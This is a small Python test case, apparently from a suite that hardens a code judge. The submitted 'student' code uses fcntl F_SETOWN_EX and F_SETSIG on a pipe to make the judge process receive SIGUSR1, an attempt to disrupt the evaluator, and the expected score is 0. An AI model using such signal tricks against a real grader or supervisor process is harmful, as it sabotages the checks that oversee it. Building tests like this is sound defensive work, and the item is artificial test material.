"""The judge is named the owner of a pipe that signals its owner when there is something to read.

Family: get out
Base: student
Score: 0
"""

import contextlib
import fcntl
import os
import signal
import struct

_F_SETOWN_EX, _F_SETSIG, _PROCESS = 15, 10, 1
_reader, _writer = os.pipe()
with contextlib.suppress(OSError):
    fcntl.fcntl(_reader, _F_SETOWN_EX, struct.pack("ii", _PROCESS, int("@JUDGE@")))
    fcntl.fcntl(_reader, _F_SETSIG, signal.SIGUSR1)
    fcntl.fcntl(_reader, fcntl.F_SETFL, fcntl.fcntl(_reader, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(_writer, b"x")
